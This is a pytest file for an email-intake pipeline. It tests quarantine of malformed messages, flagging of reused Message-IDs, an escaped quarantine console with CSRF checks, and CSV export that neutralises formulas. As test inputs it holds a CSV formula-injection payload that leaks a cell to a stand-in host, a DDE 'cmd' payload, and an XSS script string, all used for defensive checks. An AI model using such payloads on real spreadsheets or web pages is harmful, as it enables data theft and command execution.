"""Poison mail is isolated, nothing is lost, and what is kept can be read (issue #13 items 12-15).

Fixtures under tests/fixtures/poison/ are named after their quirk. Every test runs on SQLite and
PostgreSQL (PostgreSQL refuses text SQLite takes, which is how "store failed" lost content).
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import func, select, update
from webapp import make_app

from assistant.store import Case, Message, MessageStatus, repo, session_factory, transaction
from mail_ingest.local import import_path
from mail_ingest.pipeline import Pipeline

ROOT = Path(__file__).resolve().parents[1]
POISON = Path(__file__).parent / "fixtures" / "poison"


def raw(name: str) -> bytes:
    return (POISON / name).read_bytes()


def messages(factory) -> dict[str | None, Message]:
    with factory() as session:
        return {m.message_id or f"#{m.id}": m for m in session.scalars(select(Message))}


@pytest.fixture
def factory(engine):
    return session_factory(engine)


def import_files(factory, tmp_path: Path, *names: str) -> dict[str, int]:
    folder = tmp_path / "in"
    folder.mkdir(exist_ok=True)
    for name in names:
        (folder / name).write_bytes(raw(name))
    return import_path(factory, Pipeline(factory), folder, progress=False)


@pytest.mark.slow  # the import CLI in a subprocess (spaCy loaded)
def test_a_poison_date_does_not_block_the_batch_cli(engine, tmp_path):
    """Item 12: `mail_ingest import` exited 1 with OverflowError; the request beside it got no case."""
    folder = tmp_path / "batch"
    folder.mkdir()
    for name in ("date_year_9999.eml", "normal_request_beside_poison.eml"):
        (folder / name).write_bytes(raw(name))
    url = engine.url.render_as_string(hide_password=False)
    result = subprocess.run(
        [sys.executable, "-m", "mail_ingest", "import", str(folder), "--quiet"],
        cwd=ROOT,
        env={**os.environ, "DATABASE_URL": url},
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert "2 classified, 0 quarantined" in result.stdout
    factory = session_factory(engine)
    stored = messages(factory)
    with factory() as session:
        assert session.scalar(select(func.count()).where(Message.status == MessageStatus.PROCESSING)) == 0
        normal = stored["<normal-request@example.net>"]
        assert session.scalar(select(Case).where(Case.message_pk == normal.id)) is not None
        poison = stored["<date9999@example.net>"]
        assert poison.date_header is None  # an impossible Date is no date; the message is still a request
        assert session.scalar(select(Case).where(Case.message_pk == poison.id)) is not None


def test_any_failure_in_classification_quarantines_that_message_alone(factory):
    """The class behind item 12: whatever fails for one message (here a receipt time the deadline
    arithmetic cannot take, as an IMAP server could report), the others are classified and the
    failed one is quarantined with its claim released, not left claimed for 15 minutes."""
    pipeline = Pipeline(factory)
    with transaction(factory) as session:
        pipeline.store(session, raw("normal_request_beside_poison.eml"), mailbox="derechos")
        poison = pipeline.store(session, raw("date_year_9999.eml"), mailbox="derechos")
        poison_id = poison.id
    with transaction(factory) as session:
        session.execute(
            update(Message).where(Message.id == poison_id).values(received_at=datetime(9999, 12, 31, 23, tzinfo=UTC))
        )
    assert pipeline.classify_pending() == 2
    stored = messages(factory)
    poisoned = stored["<date9999@example.net>"]
    assert poisoned.status == MessageStatus.QUARANTINED and poisoned.claimed_by is None
    assert "OverflowError" in poisoned.error
    assert stored["<normal-request@example.net>"].status == MessageStatus.CLASSIFIED
    assert pipeline.classify_pending() == 0  # nothing stays claimed


def test_quarantined_messages_keep_their_bytes_and_parse_what_can_be(factory, tmp_path):
    """Item 13: quarantined messages had only a hash and a size; 8-bit headers failed to store."""
    names = ["no_headers_at_all.eml", "eight_bit_headers.eml", "lone_quote_from.eml"]
    import_files(factory, tmp_path, *names)
    stored = messages(factory)
    assert len(stored) == 3
    eight_bit = stored["<eightbit@example.net>"]
    assert eight_bit.status == MessageStatus.CLASSIFIED
    assert eight_bit.subject == "Rectificación de mi dirección" and eight_bit.from_name == "José Pérez"
    assert stored["<lonequote@example.net>"].status == MessageStatus.CLASSIFIED
    with factory() as session:
        unreadable = session.scalars(select(Message).where(Message.status == MessageStatus.QUARANTINED)).one()
        assert unreadable.raw == raw("no_headers_at_all.eml")  # every byte, for the agent to read
        assert unreadable.error == "no headers: not an RFC 822 message"


def test_a_store_failure_still_keeps_the_bytes(factory, monkeypatch):
    """Whatever makes storing fail, the quarantine record carries the raw message."""
    calls = {"n": 0}
    original = repo.save_message

    def failing_once(session, new):  # type: ignore[no-untyped-def]
        calls["n"] += 1
        if calls["n"] == 1:
            raise UnicodeEncodeError("utf-8", "\ud800", 0, 1, "surrogates not allowed")
        return original(session, new)

    monkeypatch.setattr(repo, "save_message", failing_once)
    with transaction(factory) as session:
        message = Pipeline(factory).store(session, raw("normal_request_beside_poison.eml"), mailbox="derechos")
        assert message.status == MessageStatus.QUARANTINED
        assert message.error == "store failed: UnicodeEncodeError"
        assert message.raw == raw("normal_request_beside_poison.eml")


def test_same_message_id_other_content_is_kept_and_flagged(factory, tmp_path):
    """Item 14: the second message with a reused Message-ID vanished as a 'duplicate'."""
    import_files(
        factory,
        tmp_path,
        "reused_message_id_first.eml",
        "reused_message_id_other_content.eml",
        "reused_message_id_same_content_other_trace.eml",
    )
    with factory() as session:
        rows = list(session.scalars(select(Message).order_by(Message.id)))
    assert len(rows) == 2, "same ID + same content (other trace headers) is one message; other content is another"
    assert {r.subject for r in rows} == {"Baja publicidad", "Copia de mis datos"}
    assert [r.id_conflict for r in rows].count(True) == 1
    flagged = next(r for r in rows if r.id_conflict)
    assert flagged.subject == "Copia de mis datos"


def test_the_agent_sees_the_reused_id_flag(seeded, tmp_path):
    engine, tokens = seeded
    factory = session_factory(engine)
    import_files(factory, tmp_path, "reused_message_id_first.eml", "reused_message_id_other_content.eml")
    with factory() as session:
        flagged = session.scalars(select(Message).where(Message.id_conflict.is_(True))).one()
        case_id = session.scalar(select(Case.id).where(Case.message_pk == flagged.id))
    client = make_app(engine).test_client()
    detail = client.get(f"/api/v1/cases/{case_id}", headers={"Authorization": f"Bearer {tokens['agent']}"})
    assert detail.get_json()["message"]["message_id_conflict"] is True


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_register_csv_neutralises_formulas(seeded, tmp_path, start):
    """Item 15: a From display name beginning '=HYPERLINK(' was exported verbatim."""
    engine, tokens = seeded
    factory = session_factory(engine)
    import_files(factory, tmp_path, "formula_display_name.eml")
    with transaction(factory) as session:
        first = session.scalars(select(Case).order_by(Case.id)).first()
        first.requester_name = start + "cmd|' /C calc'!A0"
    client = make_app(engine).test_client()
    response = client.get("/api/v1/register.csv", headers={"Authorization": f"Bearer {tokens['agent']}"})
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))], "a cell would run as a formula"
    assert '\'=HYPERLINK("http://x.example/leak?"&A2,"Ver")' in cells
    assert "'" + start + "cmd|' /C calc'!A0" in cells


def test_console_quarantine_lists_shows_safely_retries_and_dismisses(seeded, tmp_path):
    engine, _ = seeded
    factory = session_factory(engine)
    hostile = b"<script>alert(1)</script> quiero borrar mis datos\r\n"
    folder = tmp_path / "q"
    folder.mkdir()
    (folder / "a.eml").write_bytes(hostile)
    (folder / "b.eml").write_bytes(raw("no_headers_at_all.eml"))
    import_path(factory, Pipeline(factory), folder, progress=False)
    with factory() as session:
        ids = sorted(session.scalars(select(Message.id).where(Message.status == MessageStatus.QUARANTINED)))
    assert len(ids) == 2
    from webapp import ConsoleActions

    client = make_app(engine).test_client()
    assert client.get("/quarantine").status_code == 302  # agents only
    console = ConsoleActions(client)
    console.login()
    listing = client.get("/quarantine").get_data(as_text=True)
    assert "no headers: not an RFC 822 message" in listing
    shown = client.get(f"/quarantine/{ids[0]}").get_data(as_text=True)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; quiero borrar mis datos" in shown and "<script>alert" not in shown
    token = console.csrf("/quarantine")
    assert client.post(f"/quarantine/{ids[0]}/dismiss", data={}).status_code == 403  # CSRF token required
    assert client.post(f"/quarantine/{ids[0]}/dismiss", data={"csrf_token": token}).status_code == 302
    assert client.post(f"/quarantine/{ids[1]}/retry", data={"csrf_token": token}).status_code == 302
    with factory() as session:
        statuses = [session.get(Message, i).status for i in ids]
        actions = set(session.scalars(select(repo.AuditEvent.action)))
    assert statuses == [MessageStatus.DISMISSED, MessageStatus.QUARANTINED]  # still unreadable: stays, with why
    assert {"quarantine_viewed", "quarantine_dismissed", "quarantine_retried"} <= actions
    assert client.get(f"/quarantine/{ids[0]}").status_code == 404  # dismissed: no longer in quarantine


def test_retry_requeues_a_message_once_it_parses(factory, tmp_path):
    """A message quarantined by a parser bug, once fixed, goes back to the classifier."""
    from assistant.intake import quarantine_record, retry

    with transaction(factory) as session:
        record = quarantine_record(raw("eight_bit_headers.eml"), "derechos", None, "parse failed: IndexError")
        message, _ = repo.save_message(session, record)
        assert retry(session, message) == "queued"
        assert message.status == MessageStatus.NEW and message.subject.startswith("Rectificación")
        assert message.raw is None
    assert Pipeline(factory).classify_pending() == 1


def test_identity_ignores_trace_headers_and_line_endings_but_not_content():
    """The class behind item 14: what counts as 'the same message'."""
    from assistant.mime import parse_message

    first = raw("reused_message_id_first.eml")
    key = parse_message(first).content_key
    traced = b"Received: from mx2 by mx1; Tue, 10 Mar 2026 10:00:09 +0100\r\nX-Spam-Score: 0.1\r\n" + first
    assert parse_message(traced).content_key == key
    assert parse_message(first.replace(b"\r\n", b"\n")).content_key == key
    for changed in (
        first.replace(b"publicidad.", b"publicidad!"),  # the body
        first.replace(b"Subject: Baja publicidad", b"Subject: Baja"),
        first.replace(b"Date: Tue, 10 Mar", b"Date: Wed, 11 Mar"),
        first.replace(b"\r\n\r\n", b"\r\nContent-Type: text/plain; charset=iso-8859-2\r\n\r\n", 1),
    ):
        assert parse_message(changed).content_key != key
